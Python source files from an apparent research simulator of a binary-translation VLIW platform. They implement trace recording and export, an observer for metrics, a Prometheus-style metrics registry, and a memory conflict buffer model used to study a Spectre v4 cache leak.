the DBT engine's own work (translation, analysis, scheduling) consumes
no simulated cycles, the tracer maintains a monotonic sub-cycle tick:

* 1 simulated cycle = :data:`TICKS_PER_CYCLE` ticks;
* :meth:`Tracer.tick` returns ``max(cycle * TICKS_PER_CYCLE,
  last_tick + 1)``, so zero-duration engine phases at the same cycle
  still form strictly nested, strictly ordered intervals;
* core execution spans bypass the sub-cycle clock and tile the timeline
  exactly (:meth:`Tracer.add_cycle_span`).

The exporter emits the Trace Event Format consumed by
``chrome://tracing`` and https://ui.perfetto.dev: complete (``"X"``)
events for spans, instant (``"i"``) events, and metadata (``"M"``)
events naming the process and one thread per track.  Timestamps are in
microseconds, so one simulated cycle renders as one millisecond.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Dict, List, Mapping, Optional

#: Sub-cycle resolution of the trace clock.
TICKS_PER_CYCLE = 1000

#: Canonical track names (one pseudo-thread per subsystem).
TRACK_ENGINE = "dbt-engine"
TRACK_CORE = "vliw-core"
TRACK_MEM = "mem"
TRACK_EVENTS = "events"
TRACK_CHAIN = "chain"
TRACK_TRACE = "trace-compile"


@dataclass(frozen=True)
class SpanRecord:
    """One closed interval on a track, in ticks."""

    name: str
    track: str
    start: int
    end: int
    category: str = ""
    args: Mapping[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class InstantRecord:
    """One point event on a track, in ticks."""

    name: str
    track: str
    ts: int
    category: str = ""
    args: Mapping[str, Any] = field(default_factory=dict)


class Tracer:
    """Bounded recorder of spans and instant events.

    ``limit`` bounds the *total* number of records; past it, new records
    are counted in :attr:`dropped` instead of stored, so tracing a
    multi-million-block run degrades to a truncated trace rather than
    unbounded memory growth.
    """

    def __init__(self, limit: int = 200_000):
        if limit < 1:
            raise ValueError("trace limit must be positive")
        self.limit = limit
        self.spans: List[SpanRecord] = []
        self.instants: List[InstantRecord] = []
        self.dropped = 0
        self._last_tick = 0

    def __len__(self) -> int:
        return len(self.spans) + len(self.instants)

    @property
    def full(self) -> bool:
        return len(self) >= self.limit

    @property
    def last_tick(self) -> int:
        """Latest tick issued — the trace's extent on the timeline."""
        return self._last_tick

    # ------------------------------------------------------------------
    # Clock.
    # ------------------------------------------------------------------

    def tick(self, cycle: int) -> int:
        """Monotonic trace timestamp for simulated ``cycle``."""
        tick = max(cycle * TICKS_PER_CYCLE, self._last_tick + 1)
        self._last_tick = tick
        return tick

    # ------------------------------------------------------------------
    # Recording.
    # ------------------------------------------------------------------

    def add_span(self, name: str, track: str, start: int, end: int,
                 category: str = "",
                 args: Optional[Mapping[str, Any]] = None) -> None:
        """Record a span between two tick timestamps."""
        if self.full:
            self.dropped += 1
            return
        if end < start:
            raise ValueError("span %r ends before it starts" % name)
        self.spans.append(SpanRecord(name, track, start, end, category,
                                     args or {}))

    def add_cycle_span(self, name: str, track: str, start_cycle: int,
                       end_cycle: int, category: str = "",
                       args: Optional[Mapping[str, Any]] = None) -> None:
        """Record a span between two simulated cycles (exact tiling —
        does not advance the sub-cycle clock)."""
        self.add_span(name, track, start_cycle * TICKS_PER_CYCLE,
                      end_cycle * TICKS_PER_CYCLE, category, args)
        self._last_tick = max(self._last_tick, end_cycle * TICKS_PER_CYCLE)

    def add_instant(self, name: str, track: str, ts: int,
                    category: str = "",
                    args: Optional[Mapping[str, Any]] = None) -> None:
        if self.full:
            self.dropped += 1
            return
        self.instants.append(InstantRecord(name, track, ts, category,
                                           args or {}))

    # ------------------------------------------------------------------
    # Export.
    # ------------------------------------------------------------------

    def to_chrome(self, pid: int = 1) -> dict:
        """Trace Event Format document (``chrome://tracing`` / Perfetto)."""
        tids: Dict[str, int] = {}

        def tid_for(track: str) -> int:
            if track not in tids:
                tids[track] = len(tids) + 1
            return tids[track]

        # Stable thread numbering regardless of record interleaving.
        for track in (TRACK_ENGINE, TRACK_CORE, TRACK_CHAIN, TRACK_MEM,
                      TRACK_EVENTS):
            tid_for(track)
        for record in self.spans:
            tid_for(record.track)
        for record in self.instants:
            tid_for(record.track)

        events: List[dict] = [{
            "name": "process_name", "ph": "M", "pid": pid, "tid": 0,
            "args": {"name": "repro-dbt-platform"},
        }]
        for track, tid in tids.items():
            events.append({
                "name": "thread_name", "ph": "M", "pid": pid, "tid": tid,
                "args": {"name": track},
            })
        for span in self.spans:
            events.append({
                "name": span.name,
                "cat": span.category or span.track,
                "ph": "X",
                "ts": span.start,
                "dur": span.end - span.start,
                "pid": pid,
                "tid": tids[span.track],
                "args": dict(span.args),
            })
        for instant in self.instants:
            events.append({
                "name": instant.name,
                "cat": instant.category or instant.track,
                "ph": "i",
                "s": "t",
                "ts": instant.ts,
                "pid": pid,
                "tid": tids[instant.track],
                "args": dict(instant.args),
            })
        return {
            "traceEvents": events,
            "displayTimeUnit": "ms",
            "otherData": {
                "generator": "repro.obs",
                "ticks_per_cycle": TICKS_PER_CYCLE,
                "dropped_records": self.dropped,
            },
        }

    def to_json(self, indent: Optional[int] = None, pid: int = 1) -> str:
        return json.dumps(self.to_chrome(pid=pid), indent=indent)

    def write(self, path: str, pid: int = 1) -> None:
        with open(path, "w") as handle:
            handle.write(self.to_json(pid=pid))
