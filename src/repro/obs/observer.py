"""The :class:`Observer` facade the platform layers are instrumented with.

One object bundles the three sinks of the observability layer:

* a :class:`~repro.obs.registry.MetricsRegistry` (always present);
* an optional :class:`~repro.obs.trace.Tracer` (span/event timeline);
* an :class:`~repro.obs.events.EventBus` for programmatic subscribers.

The platform threads a single optional observer through
:class:`~repro.platform.system.DbtSystem` into the DBT engine, the
scheduler, and the VLIW core.  Every instrumented hot path is guarded by
exactly one ``if observer is not None`` — the disabled (default) path
costs one pointer comparison and cannot perturb the timing model, which
only ever advances through ``core.cycle`` arithmetic the observer never
touches.

Hook methods are *typed* (one method per platform event kind) so the hot
layers never build dictionaries on the fast path; the generic
:meth:`Observer.emit` covers cold, ad-hoc events.
"""

from __future__ import annotations

from contextlib import contextmanager, nullcontext
from typing import Any, Callable, ContextManager, Optional

from .events import Event, EventBus
from .registry import MetricsRegistry
from .trace import (
    TRACK_CHAIN,
    TRACK_CORE,
    TRACK_ENGINE,
    TRACK_EVENTS,
    TRACK_MEM,
    TRACK_TRACE,
    Tracer,
)

#: Load-latency histogram buckets: 3 = L1 hit, 30 = miss under the
#: default cache geometry; the rest bracket non-default configs.
LOAD_LATENCY_BUCKETS = (1, 2, 3, 5, 10, 20, 30, 60, 120)


def maybe_phase(observer: Optional["Observer"], name: str,
                **args: Any) -> ContextManager[None]:
    """``observer.phase(...)`` or a no-op context when tracing is off."""
    if observer is None:
        return nullcontext()
    return observer.phase(name, **args)


class Observer:
    """Structured-event, metrics and tracing sink for one platform run."""

    def __init__(
        self,
        registry: Optional[MetricsRegistry] = None,
        tracer: Optional[Tracer] = None,
        bus: Optional[EventBus] = None,
    ):
        self.registry = registry if registry is not None else MetricsRegistry()
        self.tracer = tracer
        self.bus = bus if bus is not None else EventBus()
        #: Simulated-cycle clock; the platform points this at the core.
        self.clock: Callable[[], int] = lambda: 0

        reg = self.registry
        # Hot-path metrics are pre-created so instrumented code pays one
        # attribute load + one add per sample, never a dict lookup.
        self._c_blocks = reg.counter(
            "core.blocks_executed_total", "translated blocks executed")
        self._c_loads = reg.counter(
            "mem.loads_total", "timed guest loads issued")
        self._c_load_misses = reg.counter(
            "mem.load_misses_total", "guest loads that missed the L1")
        self._c_spec_misses = reg.counter(
            "mem.speculative_load_misses_total",
            "misses caused by speculatively issued loads")
        self._h_load_latency = reg.histogram(
            "mem.load_latency_cycles", LOAD_LATENCY_BUCKETS,
            "observed load latency distribution")
        self._c_rollbacks = reg.counter(
            "mcb.rollbacks_total", "MCB conflict/overflow rollbacks")
        self._c_rollback_cycles = reg.counter(
            "mcb.rollback_cycles_total",
            "cycles wasted on aborted speculative runs + rollback penalty")
        self._c_squashed_loads = reg.counter(
            "mcb.squashed_speculative_loads_total",
            "speculative loads in flight when their run was rolled back")
        self._c_profile_blocks = reg.counter(
            "dbt.profile_block_records_total", "block executions profiled")
        self._c_profile_branches = reg.counter(
            "dbt.profile_branch_records_total", "branch outcomes profiled")

    # ------------------------------------------------------------------
    # Generic events and phases.
    # ------------------------------------------------------------------

    def emit(self, name: str, **attrs: Any) -> None:
        """Record a cold structured event (counter + trace instant + bus)."""
        self.registry.counter("events." + name).inc()
        cycle = self.clock()
        if self.tracer is not None:
            self.tracer.add_instant(name, TRACK_EVENTS,
                                    self.tracer.tick(cycle), args=attrs)
        if self.bus.active:
            self.bus.emit(Event(name, cycle, attrs))

    @contextmanager
    def phase(self, name: str, **args: Any):
        """Span covering one DBT-engine phase (translate, superblock,
        poison_analysis, schedule, ...).  Engine work consumes no
        simulated cycles, so nesting rides the tracer's sub-cycle tick.
        """
        tracer = self.tracer
        start = tracer.tick(self.clock()) if tracer is not None else 0
        try:
            yield
        finally:
            self.registry.counter("dbt.phases." + name).inc()
            if tracer is not None:
                tracer.add_span(name, TRACK_ENGINE, start,
                                tracer.tick(self.clock()),
                                category="dbt", args=args)

    # ------------------------------------------------------------------
    # Core (VLIW pipeline) hooks.
    # ------------------------------------------------------------------

    def block_executed(self, block: Any, result: Any, start_cycle: int,
                       end_cycle: int) -> None:
        """One translated block ran from ``start_cycle`` to ``end_cycle``."""
        self._c_blocks.inc()
        self.registry.counter("core.blocks." + block.kind).inc()
        if self.tracer is not None:
            self.tracer.add_cycle_span(
                "execute", TRACK_CORE, start_cycle, end_cycle,
                category="core",
                args={
                    "entry": "%#x" % block.guest_entry,
                    "kind": block.kind,
                    "exit": result.reason.value,
                    "rolled_back": result.rolled_back,
                })
        if self.bus.active:
            self.bus.emit(Event("block_executed", end_cycle, {
                "entry": block.guest_entry,
                "kind": block.kind,
                "cycles": end_cycle - start_cycle,
                "rolled_back": result.rolled_back,
            }))

    def rollback(self, entry: int, wasted_cycles: int, cycle: int,
                 squashed_loads: int = 0) -> None:
        """MCB conflict/overflow: the block at ``entry`` rolled back
        after burning ``wasted_cycles`` (aborted run + penalty), squashing
        the ``squashed_loads`` speculative loads the MCB was tracking."""
        self._c_rollbacks.inc()
        self._c_rollback_cycles.inc(wasted_cycles)
        self._c_squashed_loads.inc(squashed_loads)
        if self.tracer is not None:
            self.tracer.add_instant(
                "mcb_rollback", TRACK_CORE, self.tracer.tick(cycle),
                category="core",
                args={"entry": "%#x" % entry, "wasted_cycles": wasted_cycles,
                      "squashed_loads": squashed_loads})
        if self.bus.active:
            self.bus.emit(Event("mcb_rollback", cycle, {
                "entry": entry, "wasted_cycles": wasted_cycles,
                "squashed_loads": squashed_loads}))

    def chain_dispatch(self, blocks: int, reason: str, start_cycle: int,
                       end_cycle: int) -> None:
        """One chained dispatch completed: ``blocks`` linked blocks ran
        back-to-back before the chain broke for ``reason``."""
        self.registry.counter("dbt.chain.walks_total").inc()
        self.registry.counter("dbt.chain.blocks_total").inc(blocks)
        self.registry.counter("dbt.chain.breaks." + reason).inc()
        if self.tracer is not None:
            self.tracer.add_cycle_span(
                "chain", TRACK_CHAIN, start_cycle, end_cycle,
                category="chain",
                args={"blocks": blocks, "break": reason})
        if self.bus.active:
            self.bus.emit(Event("chain_dispatch", end_cycle, {
                "blocks": blocks, "break": reason}))

    def trace_event(self, name: str, head: int, blocks: int,
                    cycle: int) -> None:
        """Tier-4 trace lifecycle event (``trace_recorded`` /
        ``trace_compiled`` / ``trace_demoted``) for the megablock headed
        at ``head`` covering ``blocks`` blocks."""
        self.registry.counter("dbt.trace." + name).inc()
        if self.tracer is not None:
            self.tracer.add_instant(
                name, TRACK_TRACE, self.tracer.tick(cycle),
                category="trace",
                args={"head": "%#x" % head, "blocks": blocks})
        if self.bus.active:
            self.bus.emit(Event(name, cycle,
                                {"head": head, "blocks": blocks}))

    # ------------------------------------------------------------------
    # Memory hooks.
    # ------------------------------------------------------------------

    def load_access(self, address: int, hit: bool, latency: int,
                    speculative: bool, cycle: int) -> None:
        """One timed guest load completed."""
        self._c_loads.inc()
        self._h_load_latency.observe(latency)
        if hit:
            return
        self._c_load_misses.inc()
        if speculative:
            self._c_spec_misses.inc()
        if self.tracer is not None:
            self.tracer.add_instant(
                "cache_miss", TRACK_MEM, self.tracer.tick(cycle),
                category="mem",
                args={"address": "%#x" % address, "latency": latency,
                      "speculative": speculative})
        if self.bus.active:
            self.bus.emit(Event("cache_miss", cycle, {
                "address": address, "latency": latency,
                "speculative": speculative}))

    def cflush(self, address: int, cycle: int) -> None:
        """Guest executed ``cflush`` (attack instrumentation)."""
        self.registry.counter("mem.cflush_total").inc()
        if self.tracer is not None:
            self.tracer.add_instant(
                "cflush", TRACK_MEM, self.tracer.tick(cycle),
                category="mem", args={"address": "%#x" % address})

    # ------------------------------------------------------------------
    # DBT-engine hooks (cold paths; profiling counters are hot).
    # ------------------------------------------------------------------

    def profile_block(self) -> None:
        self._c_profile_blocks.inc()

    def profile_branch(self) -> None:
        self._c_profile_branches.inc()

    # ------------------------------------------------------------------
    # End-of-run snapshot.
    # ------------------------------------------------------------------

    def snapshot(self, result: Any) -> None:
        """Copy the final platform statistics into gauges, so a metrics
        export carries both event-driven counters and run totals."""
        reg = self.registry
        reg.gauge("run.cycles").set(result.cycles)
        reg.gauge("run.instructions").set(result.instructions)
        reg.gauge("run.ipc").set(result.ipc)
        reg.gauge("run.blocks_executed").set(result.blocks_executed)
        reg.gauge("run.exit_code").set(result.exit_code)
        core = result.core
        if core is not None:
            reg.gauge("core.bundles").set(core.bundles)
            reg.gauge("core.ops").set(core.ops)
            reg.gauge("core.stall_cycles").set(core.stall_cycles)
            reg.gauge("core.exits_taken").set(core.exits_taken)
            reg.gauge("core.rollbacks").set(core.rollbacks)
        cache = result.cache
        if cache is not None:
            reg.gauge("cache.hits").set(cache.hits)
            reg.gauge("cache.misses").set(cache.misses)
            reg.gauge("cache.evictions").set(cache.evictions)
            reg.gauge("cache.flushes").set(cache.flushes)
        engine = result.engine
        if engine is not None:
            reg.gauge("dbt.first_pass_translations").set(
                engine.first_pass_translations)
            reg.gauge("dbt.optimizations").set(engine.optimizations)
            reg.gauge("dbt.guest_instructions_translated").set(
                engine.guest_instructions_translated)
            reg.gauge("dbt.spectre_patterns_detected").set(
                engine.spectre_patterns_detected)
            reg.gauge("dbt.mitigation_edges_added").set(
                engine.mitigation_edges_added)
            reg.gauge("dbt.speculative_loads_emitted").set(
                engine.speculative_loads_emitted)
            reg.gauge("dbt.conflict_retranslations").set(
                engine.conflict_retranslations)
        tcache = getattr(result, "tcache", None)
        if tcache is not None:
            reg.gauge("dbt.tcache.lookups").set(tcache.lookups)
            reg.gauge("dbt.tcache.misses").set(tcache.misses)
            reg.gauge("dbt.tcache.installs").set(tcache.installs)
            reg.gauge("dbt.tcache.evictions").set(tcache.evictions)
            reg.gauge("dbt.tcache.capacity_flushes").set(
                tcache.capacity_flushes)
        chain = getattr(result, "chain", None)
        if chain is not None:
            reg.gauge("dbt.chain_links").set(chain.links)
            reg.gauge("dbt.chain_dispatches").set(chain.dispatches)
            for reason, count in chain.breaks.items():
                reg.gauge("dbt.chain_breaks." + reason).set(count)
        codegen = getattr(result, "codegen", None)
        if codegen is not None:
            reg.gauge("dbt.codegen.compiles").set(codegen.compiles)
            reg.gauge("dbt.codegen.hits").set(codegen.hits)
            reg.gauge("dbt.codegen.persist_hits").set(codegen.persist_hits)
            reg.gauge("dbt.codegen.persist_stores").set(
                codegen.persist_stores)
            reg.gauge("dbt.codegen.bytes").set(codegen.bytes)
            reg.gauge("dbt.codegen.quarantined").set(codegen.quarantined)
        trace = getattr(result, "trace", None)
        if trace is not None:
            reg.gauge("dbt.trace.recorded").set(trace.recorded)
            reg.gauge("dbt.trace.compiled").set(trace.compiled)
            reg.gauge("dbt.trace.dispatches").set(trace.dispatches)
            reg.gauge("dbt.trace.blocks").set(trace.blocks)
            reg.gauge("dbt.trace.demotions").set(trace.demotions)
            reg.gauge("dbt.trace.retired").set(trace.retired)
            reg.gauge("dbt.trace.stale_drops").set(trace.stale_drops)
            for kind, count in trace.guard_exits.items():
                reg.gauge("dbt.trace.guard_exits." + kind).set(count)
