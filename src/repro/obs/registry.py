"""Metrics registry: named counters, gauges and fixed-bucket histograms.

Zero-dependency, deterministic, and cheap on the hot path: instrumented
code holds direct references to the metric objects it updates (one
attribute load + one integer add per sample), and the registry is only
consulted at creation and export time.

Two exporters are provided:

* :meth:`MetricsRegistry.to_json` — a nested JSON document (the format
  ``repro run --metrics-out`` writes);
* :meth:`MetricsRegistry.to_prometheus` — Prometheus text exposition
  format (``# TYPE`` lines, cumulative ``_bucket{le="..."}`` series for
  histograms), for scraping a long-running service.

Metric names are dotted (``mem.load_latency_cycles``); the Prometheus
exporter rewrites dots to underscores and prefixes ``repro_``.
"""

from __future__ import annotations

import json
import re
from bisect import bisect_left
from typing import Dict, Iterator, List, Optional, Sequence, Tuple, Union

Number = Union[int, float]

_NAME_RE = re.compile(r"^[a-zA-Z_][a-zA-Z0-9_.]*$")


class MetricError(Exception):
    """Raised on invalid metric names, kinds or values."""


class Counter:
    """Monotonically increasing counter."""

    kind = "counter"
    __slots__ = ("name", "help", "value")

    def __init__(self, name: str, help: str = ""):
        self.name = name
        self.help = help
        self.value: Number = 0

    def inc(self, amount: Number = 1) -> None:
        if amount < 0:
            raise MetricError("counter %s cannot decrease" % self.name)
        self.value += amount


class Gauge:
    """Point-in-time value (may go up and down)."""

    kind = "gauge"
    __slots__ = ("name", "help", "value")

    def __init__(self, name: str, help: str = ""):
        self.name = name
        self.help = help
        self.value: Number = 0

    def set(self, value: Number) -> None:
        self.value = value

    def inc(self, amount: Number = 1) -> None:
        self.value += amount

    def dec(self, amount: Number = 1) -> None:
        self.value -= amount


#: Default histogram buckets, tuned for cycle latencies (L1 hit = 3,
#: miss = 30 under the default cache config).
DEFAULT_BUCKETS: Tuple[Number, ...] = (1, 2, 3, 5, 8, 13, 21, 34, 55, 89)


class Histogram:
    """Fixed-bucket histogram.

    ``buckets`` are the *inclusive upper bounds* of each finite bucket,
    strictly increasing; an implicit ``+Inf`` bucket catches the rest.
    A sample ``v`` lands in the first bucket with ``v <= bound``.
    """

    kind = "histogram"
    __slots__ = ("name", "help", "buckets", "counts", "sum", "count")

    def __init__(self, name: str, buckets: Sequence[Number] = DEFAULT_BUCKETS,
                 help: str = ""):
        bounds = tuple(buckets)
        if not bounds:
            raise MetricError("histogram %s needs at least one bucket" % name)
        if any(b >= a for b, a in zip(bounds, bounds[1:])):
            raise MetricError(
                "histogram %s buckets must be strictly increasing" % name)
        self.name = name
        self.help = help
        self.buckets = bounds
        #: Per-bucket counts; the final slot is the +Inf bucket.
        self.counts: List[int] = [0] * (len(bounds) + 1)
        self.sum: Number = 0
        self.count = 0

    def observe(self, value: Number) -> None:
        self.counts[bisect_left(self.buckets, value)] += 1
        self.sum += value
        self.count += 1

    def cumulative(self) -> List[int]:
        """Cumulative counts per bucket (Prometheus ``le`` semantics)."""
        running = 0
        out = []
        for count in self.counts:
            running += count
            out.append(running)
        return out


Metric = Union[Counter, Gauge, Histogram]


def escape_help(text: str) -> str:
    """Escape a ``# HELP`` docstring per the Prometheus text format:
    backslashes and line feeds only (quotes are legal in help text)."""
    return text.replace("\\", "\\\\").replace("\n", "\\n")


def escape_label_value(text: str) -> str:
    """Escape a label value per the Prometheus text format: backslash,
    double quote and line feed."""
    return (text.replace("\\", "\\\\").replace('"', '\\"')
            .replace("\n", "\\n"))


class MetricsRegistry:
    """Name-keyed store of metrics with get-or-create accessors."""

    def __init__(self) -> None:
        self._metrics: Dict[str, Metric] = {}

    # ------------------------------------------------------------------
    # Creation / lookup.
    # ------------------------------------------------------------------

    def _get_or_create(self, name: str, factory, kind: str) -> Metric:
        metric = self._metrics.get(name)
        if metric is not None:
            if metric.kind != kind:
                raise MetricError(
                    "metric %s already registered as a %s (wanted %s)"
                    % (name, metric.kind, kind))
            return metric
        if not _NAME_RE.match(name):
            raise MetricError("invalid metric name %r" % name)
        metric = factory()
        self._metrics[name] = metric
        return metric

    def counter(self, name: str, help: str = "") -> Counter:
        return self._get_or_create(name, lambda: Counter(name, help), "counter")

    def gauge(self, name: str, help: str = "") -> Gauge:
        return self._get_or_create(name, lambda: Gauge(name, help), "gauge")

    def histogram(self, name: str,
                  buckets: Sequence[Number] = DEFAULT_BUCKETS,
                  help: str = "") -> Histogram:
        return self._get_or_create(
            name, lambda: Histogram(name, buckets, help), "histogram")

    def get(self, name: str) -> Optional[Metric]:
        return self._metrics.get(name)

    def value(self, name: str, default: Number = 0) -> Number:
        """Scalar value of a counter/gauge (0 for missing metrics)."""
        metric = self._metrics.get(name)
        if metric is None:
            return default
        if isinstance(metric, Histogram):
            raise MetricError("%s is a histogram; read .sum/.count" % name)
        return metric.value

    def __iter__(self) -> Iterator[Metric]:
        return iter(sorted(self._metrics.values(), key=lambda m: m.name))

    def __len__(self) -> int:
        return len(self._metrics)

    # ------------------------------------------------------------------
    # Exporters.
    # ------------------------------------------------------------------

    def to_dict(self) -> dict:
        """Nested export: counters/gauges as scalars, histograms with
        bucket bounds and counts."""
        counters: Dict[str, Number] = {}
        gauges: Dict[str, Number] = {}
        histograms: Dict[str, dict] = {}
        for metric in self:
            if isinstance(metric, Counter):
                counters[metric.name] = metric.value
            elif isinstance(metric, Gauge):
                gauges[metric.name] = metric.value
            else:
                histograms[metric.name] = {
                    "buckets": list(metric.buckets),
                    "counts": list(metric.counts),
                    "sum": metric.sum,
                    "count": metric.count,
                }
        return {"counters": counters, "gauges": gauges,
                "histograms": histograms}

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent, sort_keys=True)

    def to_prometheus(self, prefix: str = "repro_") -> str:
        """Prometheus text exposition format (version 0.0.4)."""
        lines: List[str] = []
        for metric in self:
            name = prefix + metric.name.replace(".", "_")
            if metric.help:
                lines.append("# HELP %s %s" % (name, escape_help(metric.help)))
            lines.append("# TYPE %s %s" % (name, metric.kind))
            if isinstance(metric, Histogram):
                cumulative = metric.cumulative()
                for bound, count in zip(metric.buckets, cumulative):
                    lines.append('%s_bucket{le="%s"} %s' % (name, bound, count))
                lines.append('%s_bucket{le="+Inf"} %s' % (name, cumulative[-1]))
                lines.append("%s_sum %s" % (name, metric.sum))
                lines.append("%s_count %s" % (name, metric.count))
            else:
                lines.append("%s %s" % (name, metric.value))
        return "\n".join(lines) + "\n"
