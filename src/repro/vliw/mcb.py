"""Memory Conflict Buffer (MCB).

Dedicated hardware for memory-dependency speculation, after Gallagher et
al. (ASPLOS'94), as used by Transmeta, Denver and Hybrid-DBT (paper
Section II-B/III-B): when the DBT schedules a load *above* a store it
could not disambiguate, the load executes with a speculative opcode and
its address range is recorded here.  Every subsequent store compares its
address range against the recorded entries; an overlap means the
speculation was wrong and execution must roll back to the block entry and
run recovery code.

The crucial security property reproduced from the paper: the MCB rolls
back *architectural* state only — the data cache keeps whatever lines the
wrong-path load pulled in, which is the Spectre v4 leak.

Entries are stored as flat parallel arrays (address/end/dest/op/tag):
``check_store`` runs on every store the pipeline executes, and scanning
two int lists beats chasing per-entry dataclass attributes.  The
:class:`McbEntry` records are materialized only for the
``check_store`` hit path and the ``entries()`` diagnostics snapshot.
:meth:`check_window` is the batched form — one numpy overlap matrix for
a whole window of stores — used by the vectorized timing engine's
differential suites (conflict detection itself is architectural control
flow, so the per-store path stays synchronous; see
``docs/PERFORMANCE.md`` §9).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence, Tuple

import numpy as np


@dataclass(frozen=True)
class McbEntry:
    """One in-flight speculative load."""

    address: int
    width: int
    dest: int
    #: Schedule position of the load (diagnostics).
    op_index: int
    #: Scheduler-assigned tag; the store that is this load's *release
    #: point* (the last store it was scheduled above) drops the entry
    #: after its own check passes.
    tag: int = 0

    def overlaps(self, address: int, width: int) -> bool:
        """Byte-range overlap test against a store."""
        return address < self.address + self.width and self.address < address + width


@dataclass(frozen=True)
class McbConflict:
    """A detected mis-speculation: the store that hit a speculative load."""

    store_address: int
    store_width: int
    entry: McbEntry


class MemoryConflictBuffer:
    """Fixed-capacity associative buffer of speculative-load addresses."""

    def __init__(self, capacity: int = 16):
        if capacity < 1:
            raise ValueError("MCB capacity must be positive")
        self.capacity = capacity
        # Parallel arrays, one slot per tracked load (see module
        # docstring): [i] = address, end (address+width), dest, op
        # index, tag.
        self._addresses: List[int] = []
        self._ends: List[int] = []
        self._dests: List[int] = []
        self._ops: List[int] = []
        self._tags: List[int] = []
        #: Statistics over the lifetime of the core.
        self.loads_tracked = 0
        self.conflicts = 0
        self.overflows = 0

    def __len__(self) -> int:
        return len(self._addresses)

    @property
    def full(self) -> bool:
        return len(self._addresses) >= self.capacity

    def record_load(self, address: int, width: int, dest: int,
                    op_index: int, tag: int = 0) -> bool:
        """Track a speculative load.

        Returns ``False`` on capacity overflow — the core must then treat
        the situation conservatively (our pipeline triggers the same
        rollback path a conflict would, which is always safe).
        """
        if len(self._addresses) >= self.capacity:
            self.overflows += 1
            return False
        self._addresses.append(address)
        self._ends.append(address + width)
        self._dests.append(dest)
        self._ops.append(op_index)
        self._tags.append(tag)
        self.loads_tracked += 1
        return True

    def release(self, tag: int) -> bool:
        """Drop the entry carrying ``tag`` (its release store has checked).

        Returns whether an entry was removed; releasing an unknown tag is
        a no-op (the release store may execute on a path where the load's
        bundle was cut short by a trace exit)."""
        try:
            position = self._tags.index(tag)
        except ValueError:
            return False
        del self._addresses[position]
        del self._ends[position]
        del self._dests[position]
        del self._ops[position]
        del self._tags[position]
        return True

    def _entry_at(self, position: int) -> McbEntry:
        return McbEntry(
            address=self._addresses[position],
            width=self._ends[position] - self._addresses[position],
            dest=self._dests[position],
            op_index=self._ops[position],
            tag=self._tags[position],
        )

    def check_store(self, address: int, width: int) -> Optional[McbConflict]:
        """Compare a store against all tracked speculative loads."""
        end = address + width
        position = 0
        for start in self._addresses:
            if address < self._ends[position] and start < end:
                self.conflicts += 1
                return McbConflict(store_address=address,
                                   store_width=width,
                                   entry=self._entry_at(position))
            position += 1
        return None

    def check_window(self, addresses: Sequence[int],
                     widths: Sequence[int]) -> Tuple[int, Optional[McbConflict]]:
        """Batched conflict check of a store window against the buffer.

        One numpy overlap matrix answers, for N stores at once, which
        store (if any) is the *first* to hit a tracked speculative load
        — ``(store_index, conflict)``, or ``(-1, None)`` when the whole
        window is clean.  Semantically identical to calling
        :meth:`check_store` store by store and stopping at the first
        conflict (the first store in window order wins; among entries it
        reports the earliest-recorded one, matching the scalar scan
        order), but without the per-store Python loop.  Stats are
        updated exactly as the scalar path would: one conflict at most,
        because everything after the hit would have rolled back.
        """
        if not self._addresses or len(addresses) == 0:
            return -1, None
        starts = np.asarray(addresses, dtype=np.int64)
        ends = starts + np.asarray(widths, dtype=np.int64)
        entry_starts = np.array(self._addresses, dtype=np.int64)
        entry_ends = np.array(self._ends, dtype=np.int64)
        overlap = ((starts[:, None] < entry_ends[None, :])
                   & (entry_starts[None, :] < ends[:, None]))
        conflicted = overlap.any(axis=1)
        if not conflicted.any():
            return -1, None
        store_index = int(conflicted.argmax())
        entry_index = int(overlap[store_index].argmax())
        self.conflicts += 1
        return store_index, McbConflict(
            store_address=int(starts[store_index]),
            store_width=int(ends[store_index] - starts[store_index]),
            entry=self._entry_at(entry_index),
        )

    def clear(self) -> None:
        """Drop all entries (block commit or rollback)."""
        self._addresses.clear()
        self._ends.clear()
        self._dests.clear()
        self._ops.clear()
        self._tags.clear()

    def entries(self) -> List[McbEntry]:
        """Snapshot of tracked entries (diagnostics)."""
        return [self._entry_at(position)
                for position in range(len(self._addresses))]
