"""Memory Conflict Buffer (MCB).

Dedicated hardware for memory-dependency speculation, after Gallagher et
al. (ASPLOS'94), as used by Transmeta, Denver and Hybrid-DBT (paper
Section II-B/III-B): when the DBT schedules a load *above* a store it
could not disambiguate, the load executes with a speculative opcode and
its address range is recorded here.  Every subsequent store compares its
address range against the recorded entries; an overlap means the
speculation was wrong and execution must roll back to the block entry and
run recovery code.

The crucial security property reproduced from the paper: the MCB rolls
back *architectural* state only — the data cache keeps whatever lines the
wrong-path load pulled in, which is the Spectre v4 leak.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional


@dataclass(frozen=True)
class McbEntry:
    """One in-flight speculative load."""

    address: int
    width: int
    dest: int
    #: Schedule position of the load (diagnostics).
    op_index: int
    #: Scheduler-assigned tag; the store that is this load's *release
    #: point* (the last store it was scheduled above) drops the entry
    #: after its own check passes.
    tag: int = 0

    def overlaps(self, address: int, width: int) -> bool:
        """Byte-range overlap test against a store."""
        return address < self.address + self.width and self.address < address + width


@dataclass(frozen=True)
class McbConflict:
    """A detected mis-speculation: the store that hit a speculative load."""

    store_address: int
    store_width: int
    entry: McbEntry


class MemoryConflictBuffer:
    """Fixed-capacity associative buffer of speculative-load addresses."""

    def __init__(self, capacity: int = 16):
        if capacity < 1:
            raise ValueError("MCB capacity must be positive")
        self.capacity = capacity
        self._entries: List[McbEntry] = []
        #: Statistics over the lifetime of the core.
        self.loads_tracked = 0
        self.conflicts = 0
        self.overflows = 0

    def __len__(self) -> int:
        return len(self._entries)

    @property
    def full(self) -> bool:
        return len(self._entries) >= self.capacity

    def record_load(self, address: int, width: int, dest: int,
                    op_index: int, tag: int = 0) -> bool:
        """Track a speculative load.

        Returns ``False`` on capacity overflow — the core must then treat
        the situation conservatively (our pipeline triggers the same
        rollback path a conflict would, which is always safe).
        """
        if self.full:
            self.overflows += 1
            return False
        self._entries.append(McbEntry(address, width, dest, op_index, tag))
        self.loads_tracked += 1
        return True

    def release(self, tag: int) -> bool:
        """Drop the entry carrying ``tag`` (its release store has checked).

        Returns whether an entry was removed; releasing an unknown tag is
        a no-op (the release store may execute on a path where the load's
